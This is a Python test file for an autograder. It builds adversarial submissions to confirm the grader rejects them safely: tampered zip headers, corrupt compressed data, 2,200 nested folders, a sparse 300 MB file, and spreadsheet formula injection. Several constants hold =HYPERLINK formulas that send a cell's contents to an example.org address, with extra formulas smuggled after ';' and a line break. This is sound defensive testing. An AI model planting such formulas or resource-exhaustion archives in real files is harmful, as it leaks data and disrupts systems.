"""The corpus's submissions refused or recorded as a whole: archives, folders and
spreadsheet cells (tests/adversarial.py)."""

import os
import shutil
import struct

from adversarial_kit import (
    MODULE,
    Case,
    helpers_of,
    with_softmax,
)

from autograder.grading.demo import zip_folder
from autograder.grading.submissions import rejected_label

# -- issue 11: archives, folders and spreadsheet cells ------------------------------------
# Each of these once ended `course grade` with a traceback and no grades.csv, hung it,
# filled OUT, or put a live formula in a CSV. Zips are made by zipfile and then edited
# byte by byte: zipfile writes neither encryption nor methods it cannot read.

DEPTH = 2200  # folders, one inside the other
SPARSE = 300 * 2**20  # bytes that take no disk: apparent size only
# A spreadsheet formula that sends a cell to a server; a file name holds no "/".
HYPERLINK = '=HYPERLINK("https://example.org/?"&A1,"see")'
FORMULA_FOLDER = '=HYPERLINK("example.org?"&A1,"open")'
# The same, and more formulas after a ";" and a line break, where a spreadsheet that
# splits on ";" would start a cell.
FORMULA_MESSAGE = HYPERLINK + ";=1+1\n-2+3,@SUM(A1)"
HUGE_MESSAGE = 300_000  # characters
RERUN = "huge-message"
DEEP_CASE = "deep-folder"  # graded a second time on the same OUT, after the batch


def central_directory(data):
    """The offsets of a zip's central directory entries, from its end record."""
    end = data.rindex(b"PK\x05\x06")
    count, _, offset = struct.unpack("<HII", data[end + 10 : end + 20])
    offsets = []
    for _ in range(count):
        offsets.append(offset)
        name, extra, comment = struct.unpack("<HHH", data[offset + 28 : offset + 34])
        offset += 46 + name + extra + comment
    return offsets


def members(data):
    """(name, central entry offset, local header offset) of every member of a zip."""
    found = []
    for entry in central_directory(data):
        length = struct.unpack("<H", data[entry + 28 : entry + 30])[0]
        name = bytes(data[entry + 46 : entry + 46 + length]).decode()
        found.append((name, entry, struct.unpack("<I", data[entry + 42 : entry + 46])[0]))
    return found


def encrypt(data, name):
    """Set the "encrypted" flag of member `name` in both of its headers."""
    for member, entry, local in members(data):
        if member.endswith(name):
            data[entry + 8] |= 0x1
            data[local + 6] |= 0x1


def method(number):
    """An edit that labels member `name` as compressed with method `number` (9: Deflate64,
    99: AES), as Windows or 7-Zip write them; its data stays deflate."""

    def edit(data, name):
        for member, entry, local in members(data):
            if member.endswith(name):
                data[entry + 10 : entry + 12] = struct.pack("<H", number)
                data[local + 8 : local + 10] = struct.pack("<H", number)

    return edit


def corrupt(data, name):
    """Overwrite the start of member `name`'s deflate data: an invalid block type."""
    for member, _, local in members(data):
        if member.endswith(name):
            lengths = struct.unpack("<HH", data[local + 26 : local + 30])
            start = local + 30 + sum(lengths)
            data[start : start + 16] = b"\xff" * 16


def zipped(*edits, member=MODULE):
    """A pack that zips the working copy as an LMS does, then applies `edits` to the
    bytes of `member`."""

    def pack(folder):
        archive = folder.with_suffix(".zip")
        zip_folder(folder, archive, folder.name)
        shutil.rmtree(folder)
        data = bytearray(archive.read_bytes())
        for edit in edits:
            edit(data, member)
        archive.write_bytes(bytes(data))

    return pack


DIRECTORY = os.O_RDONLY | os.O_DIRECTORY


def nested(folder, depth=DEPTH):
    """Replace the working copy by `depth` empty folders, one inside the other: a wrapper
    that unwrapping would descend until paths grow longer than the system allows.

    Each level is made from the one above it, where a path would be too long.
    """
    shutil.rmtree(folder)
    folder.mkdir()
    level = os.open(folder, DIRECTORY)
    for _ in range(depth):
        os.mkdir("d", dir_fd=level)
        below = os.open("d", DIRECTORY, dir_fd=level)
        os.close(level)
        level = below
    os.close(level)


def unnest(folder):
    """Remove what `nested` made, bottom up, each level from the one below it.

    shutil.rmtree, and so pytest's clean-up, recurses once per level: past Python's limit.
    """
    level, depth = os.open(folder, DIRECTORY), 0
    while "d" in os.listdir(level):
        below = os.open("d", DIRECTORY, dir_fd=level)
        os.close(level)
        level, depth = below, depth + 1
    for _ in range(depth):
        above = os.open("..", DIRECTORY, dir_fd=level)
        os.close(level)
        os.rmdir("d", dir_fd=above)
        level = above
    os.close(level)


def sparse_helpers(folder):
    """A helpers module of SPARSE bytes that occupies no disk."""
    with (helpers_of(folder) / "padding.py").open("wb") as f:
        f.truncate(SPARSE)


def renamed(name):
    def pack(folder):
        folder.rename(folder.with_name(name))

    return pack


def unchanged(folder):
    """The correct working copy, as built."""


ARCHIVE_CASES = [
    Case(
        "encrypted-zip",
        "a zip whose members are encrypted (password-protected)",
        unchanged,
        refused="is encrypted",
        pack=zipped(encrypt),
    ),
    Case(
        "corrupt-deflate-zip",
        "a zip whose helpers module has corrupt deflate data",
        unchanged,
        refused="is corrupt",
        pack=zipped(corrupt),
    ),
    Case(
        "deflate64-zip",
        "a zip compressed with Deflate64 (method 9), which zipfile cannot read",
        unchanged,
        refused="compression method this grader cannot read (9",
        pack=zipped(method(9)),
    ),
    Case(
        DEEP_CASE,
        f"a folder of {DEPTH} empty folders, one inside the other",
        nested,
        refused="nested over 32 folders deep",
    ),
    Case(
        "sparse-helpers",
        "a sparse 300 MB helpers/padding.py: no disk, but a copy would take 300 MB",
        sparse_helpers,
        refused="holds over 256 MB",
    ),
    Case(
        "formula-folder-name",
        "a folder named by a spreadsheet formula, not a student id",
        unchanged,
        refused="is not named by a student id",
        pack=renamed(FORMULA_FOLDER),
        label=rejected_label(FORMULA_FOLDER),
    ),
    Case(
        "formula-message",
        "softmax raises an error whose message is a spreadsheet formula",
        with_softmax(f"    raise ValueError({FORMULA_MESSAGE!r})\n"),
        {"softmax": "error"},
    ),
    Case(
        RERUN,
        f"softmax raises an error whose message is {HUGE_MESSAGE:,} characters long",
        with_softmax(f"    raise ValueError('x' * {HUGE_MESSAGE})\n"),
        {"softmax": "error"},
    ),
]


def unmake(submissions):
    """Make what `make` wrote removable by shutil.rmtree, which pytest cleans up with."""
    unnest(submissions / DEEP_CASE)
